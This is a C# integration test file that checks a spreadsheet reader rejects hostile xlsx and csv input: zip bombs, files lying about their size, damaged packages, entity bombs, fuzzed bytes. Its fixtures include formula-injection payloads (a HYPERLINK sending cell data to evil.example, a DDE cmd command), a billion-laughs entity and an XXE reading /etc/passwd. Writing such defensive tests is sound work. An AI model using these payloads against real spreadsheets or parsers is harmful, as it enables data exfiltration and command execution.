using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using Pipeline.Adapters.Spreadsheets;
using Pipeline.Core.Sheets;
using Pipeline.Core.Validation;
using Pipeline.Testing.Spreadsheets;
using static Pipeline.IntegrationTests.Spreadsheets.SheetFiles;

namespace Pipeline.IntegrationTests.Spreadsheets;

public sealed class HostileFileTests
{
    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击领取补贴\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1,2)",
        "&lt;b&gt; & \"quoted\" 'single'",
    ];

    [Fact]
    public void A_zip_bomb_is_refused_from_its_central_directory_without_inflating_it()
    {
        const long inflated = 300L * 1024 * 1024;
        var bomb = HostileFiles.ZipBomb(inflated);
        using (var zip = new ZipArchive(new MemoryStream(bomb)))
        {
            Assert.InRange(zip.GetEntry(WorksheetPart)!.Length, inflated, inflated + (2 * 1024 * 1024));
        }

        var file = new ObservedStream(bomb);
        var clock = Stopwatch.StartNew();
        var failure = Assert.Throws<SpreadsheetRejectedException>(() => SpreadsheetReader.Read(file, "bomb.xlsx", SpreadsheetLimits.Default));

        Assert.Equal(FileFindings.ZipBomb("bomb.xlsx"), failure.Finding);
        Assert.InRange(clock.ElapsedMilliseconds, 0, 2_000);
        Assert.InRange(file.BytesRead, 0, bomb.Length / 4);
    }

    [Fact]
    public void A_package_declaring_more_than_the_limit_in_total_is_a_zip_bomb()
    {
        var file = Xlsx(w => w.WriteRow(Enumerable.Range(0, 200).Select(i => (object?)$"第{i}列").ToArray()));

        var finding = Rejection(file, "sum.xlsx", new SpreadsheetLimits { MaxUncompressedBytes = 4 * 1024 });

        Assert.Equal(FileFindings.ZipBomb("sum.xlsx"), finding);
    }

    [Fact]
    public void An_entry_inflating_past_its_declared_size_is_stopped_as_a_zip_bomb()
    {
        // A stored part holding 3 MB while declaring 1 KB: the reader must count what it gets, not trust the header.
        var rows = string.Concat(Enumerable.Range(1, 40_000).Select(i => $"""<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>"""));
        var honest = ZipParts.Replace(Xlsx(w => w.WriteRow(1)), WorksheetPart, s => s.Write(Encoding.UTF8.GetBytes(Worksheet($"<sheetData>{rows}</sheetData>"))), CompressionLevel.NoCompression);
        var lying = HostileFiles.WithDeclaredSize(honest, WorksheetPart, 1024);

        Assert.Equal(40_000, Assert.Single(ReadAll(honest, "honest.xlsx")).Rows.Count);
        Assert.Equal(FileFindings.ZipBomb("lying.xlsx"), Rejection(lying, "lying.xlsx"));
    }

    [Fact]
    public void A_deflated_entry_declaring_less_than_it_holds_is_cut_short_and_refused_as_damaged()
    {
        var honest = Xlsx(w => w.AddSheet("明细").WriteRow("街道").WriteRow("朝阳门街道"));

        var finding = Rejection(HostileFiles.WithDeclaredSize(honest, WorksheetPart, 100), "short.xlsx");

        Assert.Equal(FileFindings.Corrupt("short.xlsx", "明细"), finding);
    }

    [Fact]
    public void Damage_deep_inside_a_sheet_surfaces_while_its_rows_stream_naming_the_sheet()
    {
        var file = Xlsx(w =>
        {
            w.AddSheet("明细");
            for (var i = 0; i < 50_000; i++)
            {
                w.WriteRow(i, $"第{i}户", i * 0.5);
            }
        });
        long compressed;
        using (var zip = new ZipArchive(new MemoryStream(file)))
        {
            compressed = zip.GetEntry(WorksheetPart)!.CompressedLength;
        }

        var damageAt = HostileFiles.DataOffset(file, WorksheetPart) + (int)(compressed * 3 / 4);
        new Random(7).NextBytes(file.AsSpan(damageAt, 512));

        // The file as a whole opens; the damage shows once the sheet is streamed.
        var sheet = Assert.Single(SpreadsheetReader.Read(new MemoryStream(file), "damaged.xlsx", SpreadsheetLimits.Default));
        var failure = Assert.Throws<SpreadsheetRejectedException>(() => sheet.Rows.Count());

        Assert.Equal(FileFindings.Corrupt("damaged.xlsx", "明细"), failure.Finding);
    }

    [Fact]
    public void A_truncated_package_is_damaged()
    {
        var file = Xlsx(w => w.WriteRow("街道", "人口").WriteRow("朝阳门街道", 300));

        Assert.Equal(FileFindings.Corrupt("cut.xlsx"), Rejection(file[..(file.Length / 2)], "cut.xlsx"));
        Assert.Equal(FileFindings.Corrupt("cut.xlsx"), Rejection(file[..^10], "cut.xlsx"));
    }

    [Fact]
    public void Files_that_are_not_spreadsheets_are_of_unknown_type()
    {
        var random = new byte[4096];
        new Random(1).NextBytes(random);

        Assert.Equal(FileFindings.UnknownType("r.xlsx"), Rejection(random, "r.xlsx"));
        Assert.Equal(FileFindings.UnknownType("p.xlsx"), Rejection(HostileFiles.Png, "p.xlsx"));
        Assert.Equal(FileFindings.UnknownType("e.xlsx"), Rejection([], "e.xlsx"));
        Assert.Equal(FileFindings.UnknownType("e.csv"), Rejection([], "e.csv"));
        Assert.Equal(FileFindings.UnknownType("d.xlsx"), Rejection(HostileFiles.DocxLike(), "d.xlsx"));
        Assert.Equal(FileFindings.UnknownType("t.pdf"), Rejection(Encoding.UTF8.GetBytes("街道,人口\r\n"), "t.pdf"));
    }

    [Theory]
    [InlineData(0)]
    [InlineData(200)]
    public void A_compound_file_naming_encryption_info_without_the_rest_of_one_is_damaged(int directorySector)
    {
        // Named like an encrypted workbook, so it is opened as one: it has no FAT and no EncryptedPackage.
        var finding = Rejection(HostileFiles.CompoundFile("EncryptionInfo", directorySector), "加密.xlsx");

        Assert.Equal(FileFindings.Corrupt("加密.xlsx"), finding);
    }

    [Fact]
    public void A_compound_file_of_excel_95_or_earlier_is_a_legacy_workbook_and_a_false_biff8_one_is_damaged()
    {
        Assert.Equal(FileFindings.LegacyExcel("旧.xls"), Rejection(HostileFiles.CompoundFile("Book"), "旧.xls"));
        Assert.Equal(FileFindings.LegacyExcel("旧.xlsx"), Rejection(HostileFiles.CompoundFile("Book"), "旧.xlsx"));
        // Names a BIFF8 workbook stream, but holds no workbook: read, and found damaged.
        Assert.Equal(FileFindings.Corrupt("假.xls"), Rejection(HostileFiles.CompoundFile("Workbook"), "假.xls"));
    }

    [Fact]
    public void An_oversized_file_is_refused_before_it_is_read()
    {
        var file = new ObservedStream(Xlsx(w => w.WriteRow("街道")));

        var failure = Assert.Throws<SpreadsheetRejectedException>(
            () => SpreadsheetReader.Read(file, "big.xlsx", new SpreadsheetLimits { MaxFileBytes = 1000 }));

        Assert.Equal(FileFindings.TooLarge("big.xlsx", file.Length, 1000), failure.Finding);
        Assert.Equal(0, file.BytesRead);
    }

    [Theory]
    [InlineData("rows.xlsx")]
    [InlineData("rows.csv")]
    public void Too_many_rows_are_refused_at_the_first_row_over(string fileName)
    {
        var rows = Enumerable.Range(1, 20).Select(i => new[] { $"第{i}行" }).ToArray();
        var file = fileName.EndsWith(".csv", StringComparison.Ordinal)
            ? CsvWriter.ToBytes(rows)
            : Xlsx(w => Array.ForEach(rows, r => w.WriteRow(r)));
        var sheetName = fileName.EndsWith(".csv", StringComparison.Ordinal) ? fileName : "Sheet1";

        var finding = Rejection(file, fileName, new SpreadsheetLimits { MaxRows = 10 });

        Assert.Equal(FileFindings.TooManyRows(fileName, sheetName, 11, 10), finding);
        Assert.Equal(10, SpreadsheetReader.Read(new MemoryStream(file), fileName, new SpreadsheetLimits { MaxRows = 10 }).Single().Rows.Take(10).Count());
    }

    [Theory]
    [InlineData("long.xlsx", false)]
    [InlineData("long.xlsx", true)]
    [InlineData("long.csv", false)]
    public void A_cell_over_the_limit_is_refused_with_its_row_and_column(string fileName, bool inlineStrings)
    {
        string?[][] rows = [["街道", "备注"], ["朝阳门街道", new string('长', 101)]];
        var file = fileName.EndsWith(".csv", StringComparison.Ordinal)
            ? CsvWriter.ToBytes(rows)
            : Xlsx(w => Array.ForEach(rows, r => w.WriteRow(r)), new XlsxWriterOptions { InlineStrings = inlineStrings });
        var sheetName = fileName.EndsWith(".csv", StringComparison.Ordinal) ? fileName : "Sheet1";

        var finding = Rejection(file, fileName, new SpreadsheetLimits { MaxCellCharacters = 100 });

        Assert.Equal(FileFindings.CellTooLong(fileName, sheetName, 2, "B", 100), finding);
        Assert.Equal(2, ReadAll(file, fileName, new SpreadsheetLimits { MaxCellCharacters = 101 }).Single().Rows.Count);
    }

    [Fact]
    public void An_unclosed_quote_stops_at_the_cell_limit_instead_of_swallowing_the_file()
    {
        var file = Encoding.UTF8.GetBytes("街道,备注\r\n朝阳门街道,\"" + string.Concat(Enumerable.Repeat("没有结束的引号,\r\n", 100_000)));

        Assert.Equal(FileFindings.CellTooLong("q.csv", "q.csv", 2, "B", 32_767), Rejection(file, "q.csv"));
    }

    [Fact]
    public void A_run_of_text_no_spreadsheet_has_is_damage_not_a_giant_string()
    {
        var file = XlsxWithSheetXml($"""<sheetData><row r="1"><c r="A1" t="str"><v>{new string('x', 3 * 1024 * 1024)}</v></c></row></sheetData>""");

        var finding = Rejection(file, "run.xlsx", new SpreadsheetLimits { MaxCompressionRatio = int.MaxValue });

        Assert.Equal(FileFindings.Corrupt("run.xlsx", "Sheet1"), finding);
    }

    [Fact]
    public void A_row_wider_than_excel_allows_is_over_the_column_limit()
    {
        // 16,384 commas make 16,385 fields; Excel's last column is the 16,384th (XFD).
        var file = Encoding.UTF8.GetBytes("a,b\r\n" + new string(',', 16_384) + "\r\n");

        Assert.Equal(FileFindings.TooManyColumns("wide.csv", "wide.csv", 2, 16_384), Rejection(file, "wide.csv"));
        Assert.Equal("末", Assert.Single(ReadAll(Encoding.UTF8.GetBytes(new string(',', 16_383) + "末"), "edge.csv")).Row(1)[16_383].Text);
    }

    [Fact]
    public void A_hundred_thousand_columns_of_xlsx_are_over_the_column_limit_not_damage()
    {
        var file = XlsxWithSheetXml($"<sheetData><row r=\"1\">{string.Concat(Enumerable.Repeat("<c><v>1</v></c>", 100_000))}</row></sheetData>");

        Assert.Equal(FileFindings.TooManyColumns("wide.xlsx", "Sheet1", 1, 16_384), Rejection(file, "wide.xlsx"));
    }

    [Theory]
    [InlineData("XFD1048577")]
    [InlineData("A99999999999")]
    [InlineData("XFE1")]
    [InlineData("AAAA1")]
    [InlineData("A0")]
    public void A_cell_address_beyond_excels_grid_is_named_not_moved(string address)
    {
        var file = XlsxWithSheetXml($"""<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="{address}"><v>2</v></c></row></sheetData>""");

        Assert.Equal(FileFindings.AddressOutOfRange("grid.xlsx", "Sheet1", 1, address, "XFD1048576"), Rejection(file, "grid.xlsx"));
    }

    [Theory]
    [InlineData("1048577")]
    [InlineData("99999999999")]
    [InlineData("0")]
    public void A_row_number_beyond_excels_grid_is_named_not_moved(string number)
    {
        var file = XlsxWithSheetXml($"""<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="{number}"><c><v>2</v></c></row></sheetData>""");

        Assert.Equal(FileFindings.AddressOutOfRange("grid.xlsx", "Sheet1", null, number, "XFD1048576"), Rejection(file, "grid.xlsx"));
    }

    [Theory]
    [InlineData("1A")]
    [InlineData("B")]
    [InlineData("B-1")]
    public void A_cell_address_that_is_none_is_named(string address)
    {
        var file = XlsxWithSheetXml($"""<sheetData><row r="3"><c r="{address}"><v>2</v></c></row></sheetData>""");

        Assert.Equal(FileFindings.AddressInvalid("bad.xlsx", "Sheet1", 3, address), Rejection(file, "bad.xlsx"));
    }

    [Fact]
    public void The_last_cell_of_excels_grid_reads_where_it_is()
    {
        var file = XlsxWithSheetXml("""<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>角落</t></is></c></row></sheetData>""");

        var row = Assert.Single(Assert.Single(ReadAll(file, "corner.xlsx")).Rows);

        Assert.Equal((1_048_576, 16_384, "角落"), (row.Number, row.Cells.Count, row[16_383].Text));
    }

    [Fact]
    public void A_workbook_without_its_content_types_part_is_refused_naming_the_part()
    {
        var file = ZipParts.Replace(Xlsx(w => w.WriteRow("街道")), "[Content_Types].xml", write: null);

        Assert.Equal(FileFindings.MissingPart("nct.xlsx", null, "[Content_Types].xml"), Rejection(file, "nct.xlsx"));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void A_binary_file_named_csv_has_no_text_encoding(bool png)
    {
        var file = png ? HostileFiles.Png : new byte[2048];
        if (!png)
        {
            new Random(3).NextBytes(file);
        }

        Assert.Equal(FileFindings.UnknownEncoding("b.csv"), Rejection(file, "b.csv"));
    }

    [Theory]
    [InlineData("街道,人口\r\n朝阳门街道,300\r\n", false)]
    [InlineData("street,people\r\nChaoyangmen,300\r\n", false)]
    [InlineData("street,people\r\nChaoyangmen,300\r\n", true)]
    public void Utf16_without_a_byte_order_mark_is_not_guessed(string text, bool bigEndian)
    {
        var file = new UnicodeEncoding(bigEndian, byteOrderMark: false).GetBytes(text);

        Assert.Equal(FileFindings.UnknownEncoding("u.csv"), Rejection(file, "u.csv"));
    }

    [Fact]
    public void Markup_and_formulas_come_through_as_plain_text_unchanged()
    {
        var xlsx = Assert.Single(ReadAll(Xlsx(w => w.WriteRow(Payloads)), "p.xlsx"));
        var inline = Assert.Single(ReadAll(Xlsx(w => w.WriteRow(Payloads), new XlsxWriterOptions { InlineStrings = true }), "p.xlsx"));
        var csv = Assert.Single(ReadAll(CsvWriter.ToBytes([Payloads]), "p.csv"));

        foreach (var sheet in new[] { xlsx, inline, csv })
        {
            var row = Assert.Single(sheet.Rows);
            Assert.Equal(Payloads, row.Texts());
            Assert.All(row.Cells, c => Assert.Equal(CellKind.Text, c.Kind));
        }
    }

    [Fact]
    public void Dtds_entity_bombs_and_external_entities_are_damage()
    {
        const string laughs = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
            """;
        var sheet = ZipParts.Replace(Xlsx(w => w.AddSheet("明细").WriteRow(1)), WorksheetPart,
            laughs + $"""<worksheet xmlns="{MainNamespace}"><sheetData><row><c t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>""");
        var workbook = ZipParts.Replace(Xlsx(w => w.WriteRow(1)), "xl/workbook.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE workbook [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="&xxe;"/></sheets></workbook>
            """);

        Assert.Equal(FileFindings.Corrupt("lol.xlsx", "明细"), Rejection(sheet, "lol.xlsx"));
        Assert.Equal(FileFindings.Corrupt("xxe.xlsx"), Rejection(workbook, "xxe.xlsx"));
    }

    [Fact]
    public void A_cell_referring_to_a_missing_shared_string_is_damage()
    {
        var file = XlsxWithSheetXml("""<sheetData><row r="1"><c r="A1" t="s"><v>7</v></c></row></sheetData>""", "only one");

        Assert.Equal(FileFindings.Corrupt("s.xlsx", "Sheet1"), Rejection(file, "s.xlsx"));
    }

    [Fact]
    public void A_sheet_whose_part_is_missing_is_refused_naming_the_sheet_and_the_part()
    {
        var file = ZipParts.Replace(Xlsx(w => w.AddSheet("明细").WriteRow(1)), WorksheetPart, write: null);

        Assert.Equal(FileFindings.MissingPart("m.xlsx", "明细", WorksheetPart), Rejection(file, "m.xlsx"));
    }

    [Fact]
    public void Randomly_damaged_workbooks_only_ever_fail_with_a_finding()
    {
        var cancellation = TestContext.Current.CancellationToken;
        var original = Xlsx(w => w
            .AddSheet("汇总").WriteRow("2024年人口", null, null).Merge("A1:C1").WriteRow("街道", "人口", "日期")
            .WriteRow("朝阳门街道", 300, new DateTime(2024, 3, 1)).WriteRow(null, 1.5, true).Merge("A3:A4")
            .AddSheet("明细").StartRow(5).WriteRow("a", "b"));
        var random = new Random(20240301);
        var outcomes = new Dictionary<string, int>();
        for (var attempt = 0; attempt < 1_500; attempt++)
        {
            cancellation.ThrowIfCancellationRequested();
            var file = (byte[])original.Clone();
            if (attempt % 5 == 0)
            {
                file = file[..random.Next(file.Length)];
            }
            else
            {
                for (var flips = random.Next(1, 8); flips > 0; flips--)
                {
                    file[random.Next(file.Length)] = (byte)random.Next(256);
                }
            }

            var outcome = Outcome(() => ReadAll(file, "fuzz.xlsx"));
            outcomes[outcome] = outcomes.GetValueOrDefault(outcome) + 1;
        }

        Assert.All(outcomes.Keys, o => Assert.True(o is "read" || IsFinding(o), $"escaped: {o}"));
        Assert.Contains("file.corrupt", outcomes.Keys);
    }

    [Fact]
    public void Random_bytes_named_csv_only_ever_fail_with_a_finding()
    {
        var random = new Random(42);
        for (var attempt = 0; attempt < 300; attempt++)
        {
            var file = new byte[random.Next(1, 600)];
            random.NextBytes(file);
            if (attempt % 2 == 0)
            {
                // Mostly text with a few stray bytes: exercises the encoding checks rather than the NUL shortcut.
                for (var i = 0; i < file.Length; i++)
                {
                    file[i] = i % 37 == 0 ? file[i] : (byte)"a,\"b\r\n;\t"[file[i] % 8];
                }
            }

            var outcome = Outcome(() => ReadAll(file, "fuzz.csv"));
            Assert.True(outcome is "read" || IsFinding(outcome), $"escaped: {outcome}");
        }
    }

    private static bool IsFinding(string outcome) =>
        outcome.StartsWith("file.", StringComparison.Ordinal) || outcome.StartsWith("cell.", StringComparison.Ordinal);

    private static string Outcome(Action read)
    {
        try
        {
            read();
            return "read";
        }
        catch (SpreadsheetRejectedException rejected)
        {
            return rejected.Finding.Code;
        }
        catch (Exception other)
        {
            return other.ToString();
        }
    }

    /// <summary>A seekable file that counts what the reader takes from it.</summary>
    private sealed class ObservedStream(byte[] bytes) : MemoryStream(bytes, writable: false)
    {
        public long BytesRead { get; private set; }

        public override int Read(byte[] buffer, int offset, int count) => Counted(base.Read(buffer, offset, count));

        public override int Read(Span<byte> buffer) => Counted(base.Read(buffer));

        public override int ReadByte()
        {
            var value = base.ReadByte();
            Counted(value < 0 ? 0 : 1);
            return value;
        }

        private int Counted(int read)
        {
            BytesRead += read;
            return read;
        }
    }
}
